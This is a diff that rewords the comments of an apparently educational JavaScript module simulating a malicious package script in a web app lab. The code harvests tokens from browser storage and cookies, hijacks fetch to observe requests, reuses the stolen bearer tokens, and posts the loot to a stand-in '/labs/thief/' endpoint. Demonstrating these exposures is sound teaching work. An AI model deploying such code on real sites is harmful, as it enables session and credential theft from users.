@@ -1,9 +1,9 @@
-// A hostile script, as a compromised package would bring it into the page. It runs with the page's own rights. Its loot goes to the thief's
-// box on this very server; a real one would send it to a server of its own, as far as the page's policy lets it.
+// A hostile script, as a compromised package would contain it. It runs with the page's own rights. What it steals is sent to the thief's box
+// on this server; a real one would send it to a server of its own, as far as the page's policy allows.
 
 const tokens = text => [...new Set(text.match(/ey[\w-]{10,}\.[\w-]{10,}\.[\w-]{20,}/g) ?? [])].slice(0, 10);
 
-// What ASP.NET's Data Protection wrote begins with its magic number.
+// What ASP.NET's Data Protection encrypted begins with its magic number.
 const ciphertexts = text => [...new Set(text.match(/CfDJ8[\w-]{100,}/g) ?? [])].slice(0, 3);
 
 const entries = storage => Object.keys(storage).map(key => [key, storage.getItem(key)]);
@@ -24,7 +24,7 @@ const send = (box, loot) => plainFetch(`/labs/thief/${box}`, {
   method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(loot),
 });
 
-/** Looks into every place a script can look into, and sends what it found. */
+/** Looks into every place that a script can read, and sends what it found. */
 export async function steal(box) {
   await send(box, Object.entries(looks).map(([place, look]) => {
     const started = performance.now();
@@ -38,7 +38,7 @@ export async function steal(box) {
 
 let sending = [];
 
-/** Puts itself in the place of fetch: what the page sends goes through its hands. */
+/** Replaces fetch, and sees every request of the page. */
 export function listen(box) {
   window.fetch = (...request) => {
     const started = performance.now();
@@ -48,7 +48,7 @@ export function listen(box) {
   };
 }
 
-/** Gives fetch back. */
+/** Restores fetch. */
 export async function leave() {
   window.fetch = plainFetch;
   await Promise.all(sending);
@@ -63,7 +63,7 @@ const asBearer = look => async place => {
   return token ? (await plainFetch('/api/orders', { headers: { Authorization: `Bearer ${token}` }, credentials: 'omit' })).status : null;
 };
 
-// It has not, and need not: the browser or the server adds the token.
+// It has not read it, and need not: the browser or the server adds the token.
 const bySession = async place => (await plainFetch(`/labs/copies/orders?place=${encodeURIComponent(place)}`)).status;
 
 // It presses the page's own button, and reads what the page says then.
@@ -79,7 +79,7 @@ const ways = {
   'localStorage': asBearer('localStorage'),
   'sessionStorage': asBearer('sessionStorage'),
   'Cookie that scripts can read': asBearer('document.cookie'),
-  // It has the page's own module do it.
+  // The page's own module does it for the script.
   'A script’s memory': async () => (await import('../storage.js')).use('memory'),
   'ProtectedLocalStorage': byButton,
 };
